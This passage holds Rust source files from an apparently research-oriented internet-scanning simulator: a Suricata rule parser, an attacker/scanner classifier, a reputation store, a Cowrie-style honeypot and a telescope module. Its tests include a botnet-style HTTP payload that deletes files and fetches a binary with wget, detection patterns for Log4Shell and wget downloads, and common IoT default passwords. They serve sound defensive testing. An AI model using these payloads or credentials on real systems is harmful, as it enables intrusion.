    let close = line
        .rfind(')')
        .ok_or_else(|| ParseError::BadHeader(line.to_string()))?;
    if close <= open {
        return Err(ParseError::BadHeader(line.to_string()));
    }
    let header = &line[..open];
    let body = &line[open + 1..close];

    // Header: alert <proto> any any -> any <ports>
    let tokens: Vec<&str> = header.split_whitespace().collect();
    if tokens.len() != 7 || tokens[0] != "alert" || tokens[4] != "->" {
        return Err(ParseError::BadHeader(header.to_string()));
    }
    let protocol = match tokens[1] {
        "tcp" => RuleProtocol::Tcp,
        "http" => RuleProtocol::Http,
        other => return Err(ParseError::BadHeader(format!("protocol '{other}'"))),
    };
    let dst_ports = parse_ports(tokens[6])?;

    // Options: split on ';' at top level (quoted strings may contain ';').
    let mut msg = None;
    let mut sid = None;
    let mut classtype = None;
    let mut contents: Vec<ContentMatch> = Vec::new();
    let mut pcre = None;

    for raw in split_options(body) {
        let opt = raw.trim();
        if opt.is_empty() {
            continue;
        }
        let (key, value) = match opt.split_once(':') {
            Some((k, v)) => (k.trim(), Some(v.trim())),
            None => (opt, None),
        };
        match key {
            "msg" => msg = Some(unquote(value.ok_or_else(|| missing_val(opt))?)?),
            "sid" => {
                sid = Some(
                    value
                        .ok_or_else(|| missing_val(opt))?
                        .parse::<u32>()
                        .map_err(|_| ParseError::BadOption(opt.to_string()))?,
                )
            }
            "classtype" => {
                let token = value.ok_or_else(|| missing_val(opt))?;
                classtype = Some(
                    ClassType::from_token(token)
                        .ok_or_else(|| ParseError::BadOption(opt.to_string()))?,
                );
            }
            "content" => {
                let s = unquote(value.ok_or_else(|| missing_val(opt))?)?;
                contents.push(ContentMatch::plain(&decode_content(&s)?));
            }
            "nocase" => last_content(&mut contents, opt)?.nocase = true,
            "offset" => {
                last_content(&mut contents, opt)?.offset = Some(parse_usize(opt, value)?)
            }
            "depth" => last_content(&mut contents, opt)?.depth = Some(parse_usize(opt, value)?),
            "distance" => {
                last_content(&mut contents, opt)?.distance = Some(parse_usize(opt, value)?)
            }
            "within" => last_content(&mut contents, opt)?.within = Some(parse_usize(opt, value)?),
            "pcre" => {
                let s = unquote(value.ok_or_else(|| missing_val(opt))?)?;
                pcre = Some(
                    PcreLite::compile(&s).map_err(|e| ParseError::BadPcre(e.to_string()))?,
                );
            }
            other => return Err(ParseError::BadOption(other.to_string())),
        }
    }

    Ok(Rule {
        protocol,
        dst_ports,
        msg: msg.ok_or(ParseError::Missing("msg"))?,
        sid: sid.ok_or(ParseError::Missing("sid"))?,
        classtype: classtype.ok_or(ParseError::Missing("classtype"))?,
        contents,
        pcre,
    })
}

fn missing_val(opt: &str) -> ParseError {
    ParseError::BadOption(format!("{opt}: missing value"))
}

fn parse_usize(opt: &str, value: Option<&str>) -> Result<usize, ParseError> {
    value
        .ok_or_else(|| missing_val(opt))?
        .parse::<usize>()
        .map_err(|_| ParseError::BadOption(opt.to_string()))
}

fn last_content<'a>(
    contents: &'a mut [ContentMatch],
    opt: &str,
) -> Result<&'a mut ContentMatch, ParseError> {
    contents
        .last_mut()
        .ok_or_else(|| ParseError::BadOption(format!("{opt} before any content")))
}

fn parse_ports(spec: &str) -> Result<PortSpec, ParseError> {
    if spec == "any" {
        return Ok(PortSpec::Any);
    }
    let inner = spec
        .strip_prefix('[')
        .and_then(|s| s.strip_suffix(']'))
        .unwrap_or(spec);
    let mut ports = Vec::new();
    for p in inner.split(',') {
        ports.push(
            p.trim()
                .parse::<u16>()
                .map_err(|_| ParseError::BadHeader(format!("port '{p}'")))?,
        );
    }
    if ports.is_empty() {
        return Err(ParseError::BadHeader(spec.to_string()));
    }
    Ok(PortSpec::List(ports))
}

/// Split the option body on `;`, respecting double-quoted strings.
fn split_options(body: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut in_quotes = false;
    let mut escaped = false;
    for c in body.chars() {
        if escaped {
            cur.push(c);
            escaped = false;
            continue;
        }
        match c {
            '\\' if in_quotes => {
                cur.push(c);
                escaped = true;
            }
            '"' => {
                cur.push(c);
                in_quotes = !in_quotes;
            }
            ';' if !in_quotes => {
                out.push(std::mem::take(&mut cur));
            }
            _ => cur.push(c),
        }
    }
    if !cur.trim().is_empty() {
        out.push(cur);
    }
    out
}

/// Strip surrounding double quotes, resolving `\"` and `\\` escapes.
fn unquote(s: &str) -> Result<String, ParseError> {
    let inner = s
        .strip_prefix('"')
        .and_then(|s| s.strip_suffix('"'))
        .ok_or_else(|| ParseError::BadOption(format!("expected quoted string: {s}")))?;
    let mut out = String::with_capacity(inner.len());
    let mut escaped = false;
    for c in inner.chars() {
        if escaped {
            out.push(c);
            escaped = false;
        } else if c == '\\' {
            escaped = true;
        } else {
            out.push(c);
        }
    }
    Ok(out)
}

/// Decode a Suricata content string: text with `|DE AD BE EF|` hex spans.
fn decode_content(s: &str) -> Result<Vec<u8>, ParseError> {
    let mut out = Vec::with_capacity(s.len());
    let mut rest = s;
    let mut in_hex = false;
    while let Some(pipe) = rest.find('|') {
        let (chunk, after) = rest.split_at(pipe);
        if in_hex {
            for tok in chunk.split_whitespace() {
                out.push(
                    u8::from_str_radix(tok, 16).map_err(|_| ParseError::BadHex(s.to_string()))?,
                );
            }
        } else {
            out.extend_from_slice(chunk.as_bytes());
        }
        in_hex = !in_hex;
        rest = &after[1..];
    }
    if in_hex {
        return Err(ParseError::BadHex(s.to_string()));
    }
    out.extend_from_slice(rest.as_bytes());
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn full_rule_round_trip() {
        let r = parse_rule(
            r#"alert http any any -> any [80,8080] (msg:"Log4Shell jndi probe"; content:"${jndi:"; nocase; classtype:web-application-attack; sid:2021001;)"#,
        )
        .unwrap();
        assert_eq!(r.protocol, RuleProtocol::Http);
        assert_eq!(r.dst_ports, PortSpec::List(vec![80, 8080]));
        assert_eq!(r.msg, "Log4Shell jndi probe");
        assert_eq!(r.sid, 2_021_001);
        assert_eq!(r.classtype, ClassType::WebApplicationAttack);
        assert_eq!(r.contents.len(), 1);
        assert!(r.contents[0].nocase);
        assert_eq!(r.contents[0].pattern, b"${jndi:".to_vec());
    }

    #[test]
    fn hex_content_spans() {
        let r = parse_rule(
            r#"alert tcp any any -> any any (msg:"smb magic"; content:"|ff|SMB"; classtype:misc-activity; sid:7;)"#,
        )
        .unwrap();
        assert_eq!(r.contents[0].pattern, b"\xffSMB".to_vec());
    }

    #[test]
    fn modifiers_attach_to_preceding_content() {
        let r = parse_rule(
            r#"alert tcp any any -> any any (msg:"seq"; content:"POST"; offset:0; depth:4; content:"cmd="; distance:0; within:100; classtype:attempted-admin; sid:9;)"#,
        )
        .unwrap();
        assert_eq!(r.contents[0].offset, Some(0));
        assert_eq!(r.contents[0].depth, Some(4));
        assert_eq!(r.contents[1].distance, Some(0));
        assert_eq!(r.contents[1].within, Some(100));
    }

    #[test]
    fn pcre_option() {
        let r = parse_rule(
            r#"alert tcp any any -> any any (msg:"dl"; pcre:"/wget.*\.sh/i"; classtype:trojan-activity; sid:3;)"#,
        )
        .unwrap();
        assert!(r.pcre.unwrap().is_match(b"WGET http://x/a.sh"));
    }

    #[test]
    fn quoted_semicolon_inside_content() {
        let r = parse_rule(
            r#"alert tcp any any -> any any (msg:"shell"; content:";wget"; classtype:trojan-activity; sid:4;)"#,
        )
        .unwrap();
        assert_eq!(r.contents[0].pattern, b";wget".to_vec());
    }

    #[test]
    fn errors() {
        assert!(matches!(
            parse_rule("not a rule"),
            Err(ParseError::BadHeader(_))
        ));
        assert!(matches!(
            parse_rule(r#"alert udp any any -> any any (msg:"x"; sid:1; classtype:misc-activity;)"#),
            Err(ParseError::BadHeader(_))
        ));
        assert!(matches!(
            parse_rule(r#"alert tcp any any -> any any (msg:"x"; classtype:misc-activity;)"#),
            Err(ParseError::Missing("sid"))
        ));
        assert!(matches!(
            parse_rule(r#"alert tcp any any -> any any (msg:"x"; sid:1; classtype:bogus;)"#),
            Err(ParseError::BadOption(_))
        ));
        assert!(matches!(
            parse_rule(r#"alert tcp any any -> any any (msg:"x"; sid:1; classtype:misc-activity; nocase;)"#),
            Err(ParseError::BadOption(_))
        ));
        assert!(matches!(
            parse_rule(r#"alert tcp any any -> any any (msg:"x"; content:"|zz|"; sid:1; classtype:misc-activity;)"#),
            Err(ParseError::BadHex(_))
        ));
    }

    #[test]
    fn single_port_without_brackets() {
        let r = parse_rule(
            r#"alert tcp any any -> any 6379 (msg:"redis"; content:"CONFIG"; classtype:protocol-command-decode; sid:5;)"#,
        )
        .unwrap();
        assert_eq!(r.dst_ports, PortSpec::List(vec![6379]));
    }
}
