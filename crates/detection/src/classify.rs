//! The §3.2 maliciousness decision procedure.
//!
//! "We classify whether a scan is malicious based on whether the scan
//! attempts to (1) login or bypass authentication, or (2) alter the state of
//! the service." Login attempts (SSH/Telnet credentials) are malicious by
//! definition; other payloads are malicious iff a vetted malicious-classtype
//! rule fires; bare probes are mere scanning.

use crate::ruleset::RuleSet;
use cw_netsim::flow::ConnectionIntent;

/// The paper's scanner/attacker distinction: "attackers" have verified
/// malicious intent; "scanners" have unknown intent.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Verdict {
    /// Verified malicious intent (login attempt or state-altering payload).
    Attacker,
    /// Intent unknown (probe, or payload that triggers no vetted rule).
    Scanner,
}

/// Is this payload malicious per the vetted ruleset?
pub fn is_malicious_payload(payload: &[u8], port: u16, rules: &RuleSet) -> bool {
    rules.is_malicious(payload, port)
}

/// Classify a connection intent as observed at a vantage point.
pub fn classify_intent(intent: &ConnectionIntent, port: u16, rules: &RuleSet) -> Verdict {
    match intent {
        // Attempting credentials *is* attempting to bypass authentication.
        ConnectionIntent::Login { .. } => Verdict::Attacker,
        ConnectionIntent::Payload(p) => {
            if is_malicious_payload(p, port, rules) {
                Verdict::Attacker
            } else {
                Verdict::Scanner
            }
        }
        ConnectionIntent::ProbeOnly => Verdict::Scanner,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cw_netsim::flow::LoginService;
    use cw_protocols::http::HttpRequest;

    #[test]
    fn login_attempts_are_attackers() {
        let rules = RuleSet::builtin();
        let v = classify_intent(
            &ConnectionIntent::Login {
                service: LoginService::Ssh,
                username: "root".into(),
                password: "123456".into(),
            },
            22,
            &rules,
        );
        assert_eq!(v, Verdict::Attacker);
    }

    #[test]
    fn probes_are_scanners() {
        let rules = RuleSet::builtin();
        assert_eq!(
            classify_intent(&ConnectionIntent::ProbeOnly, 22, &rules),
            Verdict::Scanner
        );
    }

    #[test]
    fn exploit_payloads_are_attackers() {
        let rules = RuleSet::builtin();
        let req = HttpRequest::new("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://x/mozi.m").to_bytes();
        assert_eq!(
            classify_intent(&ConnectionIntent::Payload(req), 80, &rules),
            Verdict::Attacker
        );
    }

    #[test]
    fn benign_payloads_are_scanners() {
        let rules = RuleSet::builtin();
        let req = HttpRequest::new("GET", "/").header("Host", "x").to_bytes();
        assert_eq!(
            classify_intent(&ConnectionIntent::Payload(req), 80, &rules),
            Verdict::Scanner
        );
    }

    #[test]
    fn recon_only_payloads_are_scanners() {
        // The nmap fingerprint rule fires but is attempted-recon, which does
        // not meet the paper's maliciousness bar.
        let rules = RuleSet::builtin();
        let req = HttpRequest::new("GET", "/nice ports,/Trinity.txt.bak").to_bytes();
        assert_eq!(
            classify_intent(&ConnectionIntent::Payload(req), 80, &rules),
            Verdict::Scanner
        );
    }
}
