//! Actor reputation: a GreyNoise-API-like label store.
//!
//! §6 uses "the GreyNoise API to label benign and malicious scanning
//! actors. The API labels actors as malicious if the scanning IP was seen
//! actively exploiting services, and benign if the owners of the scanning
//! IPs have undergone a rigorous vetting process." Everything else is
//! unknown — which in GreyNoise's 2022 data was 78% of actors.

use cw_netsim::snap::{SnapError, SnapReader, SnapWriter};
use std::collections::BTreeMap;
use std::net::Ipv4Addr;

/// A scanning actor's reputation label.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ActorLabel {
    /// Vetted benign organization (Censys, Shodan, academic scanners, …).
    Benign,
    /// Seen actively exploiting services.
    Malicious,
    /// No evidence either way.
    Unknown,
}

/// The reputation database keyed by source IP.
#[derive(Debug, Clone, Default)]
pub struct ReputationDb {
    labels: BTreeMap<Ipv4Addr, ActorLabel>,
}

impl ReputationDb {
    /// An empty database (everything unknown).
    pub fn new() -> Self {
        Self::default()
    }

    /// Mark an IP as belonging to a vetted benign organization. Vetting
    /// wins over observed behavior (matching GreyNoise's process, where the
    /// vetted list is curated by humans).
    pub fn vet_benign(&mut self, ip: Ipv4Addr) {
        self.labels.insert(ip, ActorLabel::Benign);
    }

    /// Record that an IP was seen actively exploiting a service. Does not
    /// override a vetted-benign label.
    pub fn observe_malicious(&mut self, ip: Ipv4Addr) {
        self.labels
            .entry(ip)
            .and_modify(|l| {
                if *l != ActorLabel::Benign {
                    *l = ActorLabel::Malicious;
                }
            })
            .or_insert(ActorLabel::Malicious);
    }

    /// The label for an IP (unknown when never seen).
    pub fn label(&self, ip: Ipv4Addr) -> ActorLabel {
        *self.labels.get(&ip).unwrap_or(&ActorLabel::Unknown)
    }

    /// Number of IPs with a non-unknown label.
    pub fn len(&self) -> usize {
        self.labels.len()
    }

    /// True when no IP is labeled.
    pub fn is_empty(&self) -> bool {
        self.labels.is_empty()
    }

    /// Iterate all labeled IPs in address order.
    pub fn iter(&self) -> impl Iterator<Item = (Ipv4Addr, ActorLabel)> + '_ {
        self.labels.iter().map(|(ip, l)| (*ip, *l))
    }

    /// Encode the label store into a snapshot payload. Only non-unknown
    /// labels exist in the map, so the wire form is the full database.
    pub fn snap_write(&self, w: &mut SnapWriter) {
        w.put_u64(self.labels.len() as u64);
        for (ip, label) in &self.labels {
            w.put_u32(u32::from(*ip));
            w.put_u8(match label {
                ActorLabel::Benign => 0,
                ActorLabel::Malicious => 1,
                ActorLabel::Unknown => 2,
            });
        }
    }

    /// Decode a label store from a snapshot payload.
    pub fn snap_read(r: &mut SnapReader<'_>) -> Result<ReputationDb, SnapError> {
        let mut labels = BTreeMap::new();
        for _ in 0..r.get_count()? {
            let ip = Ipv4Addr::from(r.get_u32()?);
            let label = match r.get_u8()? {
                0 => ActorLabel::Benign,
                1 => ActorLabel::Malicious,
                2 => ActorLabel::Unknown,
                _ => return Err(SnapError::Malformed("unknown reputation label tag")),
            };
            labels.insert(ip, label);
        }
        Ok(ReputationDb { labels })
    }

    /// Count of labeled IPs per label.
    pub fn counts(&self) -> (usize, usize) {
        let benign = self
            .labels
            .values()
            .filter(|&&l| l == ActorLabel::Benign)
            .count();
        let malicious = self
            .labels
            .values()
            .filter(|&&l| l == ActorLabel::Malicious)
            .count();
        (benign, malicious)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ip(a: u8) -> Ipv4Addr {
        Ipv4Addr::new(192, 0, 2, a)
    }

    #[test]
    fn default_is_unknown() {
        let db = ReputationDb::new();
        assert_eq!(db.label(ip(1)), ActorLabel::Unknown);
        assert!(db.is_empty());
    }

    #[test]
    fn malicious_observation_labels() {
        let mut db = ReputationDb::new();
        db.observe_malicious(ip(2));
        assert_eq!(db.label(ip(2)), ActorLabel::Malicious);
    }

    #[test]
    fn vetting_wins_over_observation() {
        let mut db = ReputationDb::new();
        db.vet_benign(ip(3));
        db.observe_malicious(ip(3));
        assert_eq!(db.label(ip(3)), ActorLabel::Benign);
        // Order doesn't matter: vetting later also wins.
        db.observe_malicious(ip(4));
        db.vet_benign(ip(4));
        assert_eq!(db.label(ip(4)), ActorLabel::Benign);
    }

    #[test]
    fn counts() {
        let mut db = ReputationDb::new();
        db.vet_benign(ip(1));
        db.observe_malicious(ip(2));
        db.observe_malicious(ip(3));
        assert_eq!(db.counts(), (1, 2));
        assert_eq!(db.len(), 3);
    }

    #[test]
    fn snapshot_round_trip() {
        let mut db = ReputationDb::new();
        db.vet_benign(ip(1));
        db.observe_malicious(ip(2));
        db.observe_malicious(ip(3));
        let mut w = SnapWriter::new();
        db.snap_write(&mut w);
        let bytes = w.into_bytes();
        let mut r = SnapReader::new(&bytes);
        let back = ReputationDb::snap_read(&mut r).unwrap();
        assert!(r.is_exhausted());
        assert_eq!(back.counts(), db.counts());
        assert_eq!(back.label(ip(1)), ActorLabel::Benign);
        assert_eq!(back.label(ip(2)), ActorLabel::Malicious);
        assert_eq!(back.label(ip(9)), ActorLabel::Unknown);
        assert_eq!(back.iter().count(), 3);
    }

    #[test]
    fn snapshot_rejects_unknown_tag() {
        let mut w = SnapWriter::new();
        w.put_u64(1);
        w.put_u32(0x7F000001);
        w.put_u8(9);
        let bytes = w.into_bytes();
        assert!(matches!(
            ReputationDb::snap_read(&mut SnapReader::new(&bytes)),
            Err(SnapError::Malformed(_))
        ));
    }
}
