//! A Cowrie-style interactive SSH/Telnet honeypot session.
//!
//! GreyNoise "uses Cowrie, an interactive honeypot, to collect SSH (ports
//! 22, 2222) and Telnet (23, 2323) attempted login credentials" (§3.1).
//! This module implements the server side of that interaction as a real
//! state machine over bytes: the Telnet dialect negotiates options and
//! prompts `login:` / `Password:`; the SSH dialect exchanges version
//! banners and accepts a simplified cleartext userauth line (full SSH
//! key exchange is out of scope — the observable artifact, harvested
//! credentials, is identical; see DESIGN.md §2).
//!
//! Credentials always fail (low interaction): the attacker is told
//! `Login incorrect` and the attempt is logged.

use cw_netsim::flow::LoginService;

/// Session state of a Cowrie service instance.
#[derive(Debug, Clone, PartialEq, Eq)]
enum State {
    /// Waiting for the client to open (SSH: client banner; Telnet: anything).
    Greeting,
    /// Prompted for username, awaiting it.
    WantUser,
    /// Prompted for password, awaiting it.
    WantPassword { username: String },
    /// Attempt recorded; session refused further auth.
    Done,
}

/// A harvested credential pair.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Credential {
    /// Attempted username.
    pub username: String,
    /// Attempted password.
    pub password: String,
}

/// One interactive honeypot session.
#[derive(Debug, Clone)]
pub struct Session {
    service: LoginService,
    state: State,
    harvested: Option<Credential>,
}

impl Session {
    /// Open a session for the given service dialect.
    pub fn new(service: LoginService) -> Self {
        Session {
            service,
            state: State::Greeting,
            harvested: None,
        }
    }

    /// The bytes the server sends immediately on accept (Telnet is
    /// server-first; SSH sends its banner right away too).
    pub fn server_greeting(&self) -> Vec<u8> {
        match self.service {
            LoginService::Ssh => b"SSH-2.0-OpenSSH_7.4p1 Debian-10\r\n".to_vec(),
            LoginService::Telnet => {
                // IAC WILL ECHO, IAC WILL SGA, then the login prompt.
                let mut v = vec![0xFF, 0xFB, 0x01, 0xFF, 0xFB, 0x03];
                v.extend_from_slice(b"\r\nlogin: ");
                v
            }
        }
    }

    /// Feed one client message; returns the server's reply bytes.
    pub fn feed(&mut self, client: &[u8]) -> Vec<u8> {
        let line = strip_line(client);
        match std::mem::replace(&mut self.state, State::Done) {
            State::Greeting => match self.service {
                LoginService::Ssh => {
                    // Expect the client version banner, then ask for auth.
                    if line.starts_with("SSH-") {
                        self.state = State::WantUser;
                        b"auth: username? ".to_vec()
                    } else {
                        self.state = State::Greeting;
                        b"Protocol mismatch.\r\n".to_vec()
                    }
                }
                LoginService::Telnet => {
                    // Telnet clients open with IAC negotiation; swallow it
                    // and (re-)prompt. If the client jumped straight to a
                    // username, accept it.
                    if client.first() == Some(&0xFF) {
                        self.state = State::WantUser;
                        b"login: ".to_vec()
                    } else if !line.is_empty() {
                        self.state = State::WantPassword { username: line };
                        b"Password: ".to_vec()
                    } else {
                        self.state = State::WantUser;
                        b"login: ".to_vec()
                    }
                }
            },
            State::WantUser => {
                if line.is_empty() {
                    self.state = State::WantUser;
                    return match self.service {
                        LoginService::Ssh => b"auth: username? ".to_vec(),
                        LoginService::Telnet => b"login: ".to_vec(),
                    };
                }
                self.state = State::WantPassword { username: line };
                b"Password: ".to_vec()
            }
            State::WantPassword { username } => {
                self.harvested = Some(Credential {
                    username,
                    password: line,
                });
                self.state = State::Done;
                b"Login incorrect\r\n".to_vec()
            }
            State::Done => b"Connection closed.\r\n".to_vec(),
        }
    }

    /// The harvested credential, once the dialogue completed.
    pub fn harvested(&self) -> Option<&Credential> {
        self.harvested.as_ref()
    }
}

/// The messages a typical scanning client sends for one login attempt, in
/// order. Driving [`Session::feed`] with these reproduces the harvest.
pub fn client_script(service: LoginService, username: &str, password: &str) -> Vec<Vec<u8>> {
    match service {
        LoginService::Ssh => vec![
            b"SSH-2.0-Go\r\n".to_vec(),
            format!("{username}\r\n").into_bytes(),
            format!("{password}\r\n").into_bytes(),
        ],
        LoginService::Telnet => vec![
            vec![0xFF, 0xFD, 0x01, 0xFF, 0xFD, 0x03], // IAC DO ECHO, DO SGA
            format!("{username}\r\n").into_bytes(),
            format!("{password}\r\n").into_bytes(),
        ],
    }
}

/// Run a complete scripted login attempt against a fresh session and return
/// the harvested credential. This is what the GreyNoise sensor does per
/// incoming login flow.
/// # Example
///
/// ```
/// use cw_honeypot::cowrie::harvest;
/// use cw_netsim::flow::LoginService;
///
/// let cred = harvest(LoginService::Telnet, "root", "xc3511").unwrap();
/// assert_eq!(cred.username, "root");
/// assert_eq!(cred.password, "xc3511");
/// ```
pub fn harvest(service: LoginService, username: &str, password: &str) -> Option<Credential> {
    let mut session = Session::new(service);
    let _greeting = session.server_greeting();
    for msg in client_script(service, username, password) {
        let _reply = session.feed(&msg);
    }
    session.harvested().cloned()
}

/// Strip telnet IAC sequences and line endings, yielding the textual line.
fn strip_line(bytes: &[u8]) -> String {
    let mut out = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == 0xFF && i + 2 < bytes.len() {
            i += 3; // IAC verb option
        } else if bytes[i] == 0xFF {
            break; // truncated IAC
        } else {
            out.push(bytes[i]);
            i += 1;
        }
    }
    String::from_utf8_lossy(&out)
        .trim_end_matches(['\r', '\n'])
        .trim_start_matches(['\r', '\n'])
        .to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ssh_dialogue_harvests_credentials() {
        let c = harvest(LoginService::Ssh, "root", "123456").unwrap();
        assert_eq!(c.username, "root");
        assert_eq!(c.password, "123456");
    }

    #[test]
    fn telnet_dialogue_harvests_credentials() {
        let c = harvest(LoginService::Telnet, "admin", "e8ehome").unwrap();
        assert_eq!(c.username, "admin");
        assert_eq!(c.password, "e8ehome");
    }

    #[test]
    fn login_always_fails() {
        let mut s = Session::new(LoginService::Telnet);
        let mut last = Vec::new();
        for msg in client_script(LoginService::Telnet, "root", "root") {
            last = s.feed(&msg);
        }
        assert_eq!(last, b"Login incorrect\r\n".to_vec());
    }

    #[test]
    fn ssh_greeting_is_a_banner() {
        let s = Session::new(LoginService::Ssh);
        assert!(s.server_greeting().starts_with(b"SSH-2.0-"));
    }

    #[test]
    fn telnet_greeting_negotiates_and_prompts() {
        let s = Session::new(LoginService::Telnet);
        let g = s.server_greeting();
        assert_eq!(&g[..3], &[0xFF, 0xFB, 0x01]);
        assert!(g.ends_with(b"login: "));
    }

    #[test]
    fn ssh_protocol_mismatch_is_tolerated() {
        let mut s = Session::new(LoginService::Ssh);
        let reply = s.feed(b"GET / HTTP/1.1\r\n");
        assert_eq!(reply, b"Protocol mismatch.\r\n".to_vec());
        assert!(s.harvested().is_none());
        // A proper client can still proceed afterwards.
        s.feed(b"SSH-2.0-x\r\n");
        s.feed(b"user\r\n");
        s.feed(b"pass\r\n");
        assert!(s.harvested().is_some());
    }

    #[test]
    fn empty_username_reprompts() {
        let mut s = Session::new(LoginService::Telnet);
        s.feed(&[0xFF, 0xFD, 0x01]);
        let reply = s.feed(b"\r\n");
        assert_eq!(reply, b"login: ".to_vec());
        s.feed(b"root\r\n");
        s.feed(b"toor\r\n");
        let c = s.harvested().unwrap();
        assert_eq!(c.username, "root");
        assert_eq!(c.password, "toor");
    }

    #[test]
    fn strip_line_removes_iac_and_crlf() {
        assert_eq!(strip_line(b"\xFF\xFD\x01root\r\n"), "root");
        assert_eq!(strip_line(b"plain"), "plain");
        assert_eq!(strip_line(&[0xFF]), "");
    }

    #[test]
    fn done_session_rejects_more_input() {
        let mut s = Session::new(LoginService::Ssh);
        for msg in client_script(LoginService::Ssh, "a", "b") {
            s.feed(&msg);
        }
        assert_eq!(s.feed(b"more\r\n"), b"Connection closed.\r\n".to_vec());
        // Harvest unchanged.
        assert_eq!(s.harvested().unwrap().username, "a");
    }
}
