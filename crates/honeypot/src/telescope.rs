//! The Orion-style passive network telescope.
//!
//! "Network telescopes/darknets typically do not host any services, receive
//! traffic on all ports and IP addresses, and only record the first packet
//! of a connection (i.e., they do not complete the TCP layer 4 handshake)"
//! (§3.1). Consequences faithfully modeled here:
//!
//! - no handshake ⇒ client-first payloads are never observed, so the
//!   telescope cannot classify intent (§3.2) or fingerprint protocols (§6);
//! - it infers the protocol from the destination port alone;
//! - it *can* count unique scanners per IP per port at scale, which is what
//!   powers the Figure 1 address-structure analysis.
//!
//! Memory design: the telescope covers ~475K IPs, so it keeps per-IP
//! *counters* for a configured set of tracked ports plus global
//! (source, port) sets for the overlap analyses — not full event records.

use cw_netsim::engine::{FlowOutcome, Listener};
use cw_netsim::fault::{flow_hash, OutageSchedule};
use cw_netsim::flow::Flow;
use cw_netsim::ip::IpExt;
use cw_netsim::snap::{SnapError, SnapReader, SnapWriter};
use cw_netsim::topology::AddressBlock;
use std::collections::{BTreeMap, BTreeSet};
use std::net::Ipv4Addr;

/// Injected measurement faults on the telescope (see `cw_netsim::fault`).
///
/// Telescopes in the wild sample: recording every first packet of 475K IPs
/// is expensive, so operators keep 1 in N. Both mechanisms here drop the
/// packet *before* any counter updates, so a faulted telescope's state is
/// exactly what a smaller/flakier sensor would have collected.
#[derive(Debug, Clone, Default)]
pub struct TelescopeFaults {
    /// Deterministic downtime schedule for the whole telescope.
    pub outage: OutageSchedule,
    /// Keep 1 in `sample` packets (0 and 1 both mean "keep everything").
    pub sample: u32,
    /// Sampling decision salt (the fault plan's telescope domain salt).
    pub sample_salt: u64,
}

/// A passive telescope over an address block.
#[derive(Debug, Clone)]
pub struct Telescope {
    name: String,
    block: AddressBlock,
    /// Per tracked port: a per-IP count of observed source contacts.
    per_ip_counts: BTreeMap<u16, Vec<u32>>,
    /// Per tracked port: distinct (src, dst) pairs, to make the per-IP
    /// counts *unique-scanner* counts.
    seen_src_dst: BTreeMap<u16, BTreeSet<(u32, u32)>>,
    /// Distinct (src, port) pairs over the whole telescope (Tables 8–9).
    seen_src_port: BTreeSet<(u32, u16)>,
    /// Distinct sources and source ASes (Table 1).
    unique_srcs: BTreeSet<u32>,
    unique_asns: BTreeSet<u32>,
    /// Per-port AS traffic counts (who scans the telescope — Table 10).
    asn_counts: BTreeMap<u16, BTreeMap<u32, u64>>,
    /// AS traffic counts over all ports.
    asn_counts_all: BTreeMap<u32, u64>,
    /// Total first packets observed.
    total_packets: u64,
    /// Injected measurement faults; `None` is the (default) perfect sensor.
    /// Deliberately not serialized: a restored telescope is a read-only
    /// analysis input, and fault schedules belong to the live run's config.
    faults: Option<TelescopeFaults>,
}

impl Telescope {
    /// Create a telescope over `block`, tracking per-IP unique-scanner
    /// counts for `tracked_ports`.
    pub fn new(name: &str, block: AddressBlock, tracked_ports: &[u16]) -> Self {
        let size = block.size() as usize;
        let per_ip_counts = tracked_ports
            .iter()
            .map(|&p| (p, vec![0u32; size]))
            .collect();
        let seen_src_dst = tracked_ports.iter().map(|&p| (p, BTreeSet::new())).collect();
        Telescope {
            name: name.to_string(),
            block,
            per_ip_counts,
            seen_src_dst,
            seen_src_port: BTreeSet::new(),
            unique_srcs: BTreeSet::new(),
            unique_asns: BTreeSet::new(),
            asn_counts: BTreeMap::new(),
            asn_counts_all: BTreeMap::new(),
            total_packets: 0,
            faults: None,
        }
    }

    /// Inject measurement faults. Called by the deployment when a
    /// non-trivial fault plan is active.
    pub fn set_faults(&mut self, faults: TelescopeFaults) {
        self.faults = Some(faults);
    }

    /// The covered block.
    pub fn block(&self) -> &AddressBlock {
        &self.block
    }

    /// Unique-scanner count per telescope IP (block offset order) for a
    /// tracked port — the Figure 1 series.
    pub fn unique_scanners_per_ip(&self, port: u16) -> Option<&[u32]> {
        self.per_ip_counts.get(&port).map(|v| v.as_slice())
    }

    /// All source IPs that touched the given port anywhere in the telescope
    /// (the Tables 8–9 overlap sets).
    pub fn sources_on_port(&self, port: u16) -> BTreeSet<Ipv4Addr> {
        self.seen_src_port
            .iter()
            .filter(|&&(_, p)| p == port)
            .map(|&(s, _)| Ipv4Addr::from(s))
            .collect()
    }

    /// Did this source ever touch this port in the telescope?
    pub fn saw_source_on_port(&self, src: Ipv4Addr, port: u16) -> bool {
        self.seen_src_port.contains(&(src.to_u32(), port))
    }

    /// Number of distinct source IPs observed (Table 1).
    pub fn unique_source_count(&self) -> usize {
        self.unique_srcs.len()
    }

    /// Number of distinct source ASes observed (Table 1).
    pub fn unique_asn_count(&self) -> usize {
        self.unique_asns.len()
    }

    /// Total first packets observed.
    pub fn total_packets(&self) -> u64 {
        self.total_packets
    }

    /// Traffic count per source AS on one port (Table 10's "who scans the
    /// telescope"). Keys are ASN numbers rendered as strings for direct use
    /// with the top-k union methodology.
    pub fn asn_freqs_on_port(&self, port: u16) -> std::collections::BTreeMap<String, u64> {
        self.asn_counts
            .get(&port)
            .map(|m| {
                m.iter()
                    .map(|(asn, c)| (format!("AS{asn}"), *c))
                    .collect()
            })
            .unwrap_or_default()
    }

    /// Traffic count per source AS over all ports.
    pub fn asn_freqs_all(&self) -> std::collections::BTreeMap<String, u64> {
        self.asn_counts_all
            .iter()
            .map(|(asn, c)| (format!("AS{asn}"), *c))
            .collect()
    }

    /// Encode the analysis-relevant state into a snapshot payload.
    ///
    /// `seen_src_dst` is deliberately omitted: it exists only to dedupe
